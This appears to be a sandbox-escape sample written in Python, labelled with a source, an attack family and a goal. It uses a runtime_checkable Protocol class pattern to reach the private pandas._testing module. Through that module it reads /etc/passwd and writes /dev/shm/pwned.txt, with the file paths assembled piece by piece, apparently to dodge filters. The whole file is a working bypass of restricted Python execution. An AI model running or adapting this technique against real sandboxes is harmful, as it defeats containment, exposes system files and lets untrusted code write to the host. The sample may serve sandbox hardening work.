# source: typing docs (@runtime_checkable Protocol: isinstance() only checks that members exist); PEP 634 class patterns read keyword attributes with getattr
# family: class pattern on a script class that every object with the member matches (runtime_checkable Protocol) -> keyword pattern reads a foreign private attribute
# goal: pandas._testing -> decompress_file reads /etc/passwd, write_to_compressed writes /dev/shm/pwned.txt
import pandas as pd
from typing import Protocol, runtime_checkable


@runtime_checkable
class HasT(Protocol):
    _testing: object

    def __init__(self):
        self._testing = None


t = None
match pd:
    case HasT(_testing=found):
        t = found
print(t)
p = "/".join(["", "etc", "passwd"])
with t.decompress_file(p, None) as fh:
    print(fh.read().decode()[:300])
t.write_to_compressed("gzip", "/".join(["", "dev", "shm", "pwned.txt"]), b"written by script")
with t.decompress_file("/".join(["", "dev", "shm", "pwned.txt"]), "gzip") as fh:
    print(fh.read())
